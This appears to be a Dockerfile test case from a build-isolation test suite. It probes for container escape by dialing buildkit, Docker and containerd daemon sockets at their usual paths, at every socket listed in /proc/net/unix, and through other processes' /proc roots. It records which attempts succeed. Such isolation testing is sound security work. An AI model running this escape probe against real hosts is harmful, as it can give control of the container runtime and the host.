# tries: the socket of the daemon, by its usual paths, through the roots of processes, and by every path that the kernel lists
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
paths="/run/buildkit/buildkitd.sock /run/user/1000/buildkit/buildkitd.sock /run/buildpools/buildkitd.sock /var/run/docker.sock /run/containerd/containerd.sock"
listed=$(awk 'NR > 1 && $8 ~ "^/" {print $8}' /proc/net/unix | sort -u)
for path in $paths $listed; do
  n=$((n + 1))
  case $(attack dial "$path") in done*) echo "ESCAPED socket $path" ;; esac
done
for pid in $(others); do
  for path in $paths $listed; do
    [ -S "/proc/$pid/root$path" ] || continue
    n=$((n + 1))
    case $(attack dial "/proc/$pid/root$path") in done*) echo "ESCAPED socket of $pid: $path" ;; esac
  done
done
tried "$n"
ATTACK
